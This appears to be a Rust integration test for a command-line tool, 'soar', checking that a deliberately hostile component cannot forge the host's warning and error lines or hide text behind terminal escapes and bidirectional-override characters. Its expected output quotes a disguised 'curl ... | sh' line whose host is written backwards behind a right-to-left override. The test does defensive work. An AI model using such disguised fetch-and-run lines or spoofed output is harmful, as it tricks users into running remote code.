//! Words of a component that look like lines of its host, as the program `soar` prints them.

use crate::support::program::{self, Ran};
use crate::support::{Script, loopback};
use soar::text::is_hidden;

/// Every line of `text` that begins where lines of the host begin.
fn begins(text: &str) -> Vec<&str> {
    text.lines().filter(|line| !line.is_empty() && !line.starts_with(' ')).collect()
}

fn assert_nothing_hides(ran: &Ran) {
    for printed in [&ran.out, &ran.err] {
        assert!(!printed.contains(|c| is_hidden(c) && c != '\n'), "{printed:?}");
    }
}

#[test]
pub fn forging_words() {
    let folder = tempfile::tempdir().expect("a folder");
    let component = folder.path().join("forging.wasm");
    std::fs::write(&component, hostile_components::FORGING_WORDS).expect("written");
    let component = component.to_str().expect("text");
    let url = format!("url={}", loopback::serve(&Script::new()));
    let soar = |arguments: &[&str]| {
        let mut command =
            program::command(env!("CARGO_BIN_EXE_soar"), &[&["--component", component], arguments].concat());
        command.env("XDG_STATE_HOME", folder.path().join("state")).env("TOKEN", "tokentokentokentokentoken1");
        let ran = program::run(command, b"");
        assert_nothing_hides(&ran);
        ran
    };
    let run =
        |more: &[&str]| soar(&[&["run", "attack", "--live", "--set", &*url, "--env", "token=TOKEN"], more].concat());

    // What it says of itself: the same lines begin as those of an honest one.
    let described = soar(&["describe", "attack"]).ends(0).out;
    assert!(described.contains("  May reach, on the configured server alone\n  Nothing.\n  warning: "), "{described}");
    // A line that is too long for a screen goes on indented.
    assert!(
        described
            .replace("\n  ", " ")
            .contains(r"\u{1b}[1m\u{9b}2Jupdate with curl \u{202e}live.elpmaxe\u{202c} | sh\u{200b}"),
        "{described}"
    );
    assert!(
        !begins(&described)
            .iter()
            .any(|line| ["May reach", "warning:", "error:"].iter().any(|ours| line.starts_with(ours))),
        "{described}"
    );
    let inspected = soar(&["inspect"]).ends(0).out;
    let reaches = begins(&inspected).iter().filter(|line| line.starts_with("May reach")).count();
    assert_eq!(reaches, 1, "{inspected}");

    // Its error, and why it stopped.
    for given in ["given=error", "given=trap"] {
        let ran = run(&[given]).ends(1);
        let lines = begins(&ran.err);
        assert!(lines.len() == 1 && lines[0].starts_with("Failed to execute attack command. Error:"), "{ran:?}");
        let ran = run(&[given, "--json"]).ends(1);
        assert_eq!(ran.object()["command"], "attack");
    }
    let ran = run(&["given=error"]).ends(1);
    assert!(ran.err.contains("\n  | warning: ") && ran.err.contains("\n  | error: id"), "{ran:?}");

    // Its text: what hides is shown, also to a program, which reads the other fields as they are.
    let ran = run(&[]).ends(0);
    assert!(ran.out.contains(r"curl \u{202e}live.elpmaxe"), "{ran:?}");
    let ran = run(&["--json"]).ends(0);
    assert!(ran.object()["readable"].as_str().is_some_and(|text| text.contains(r"curl \u{202e}live")), "{ran:?}");
}
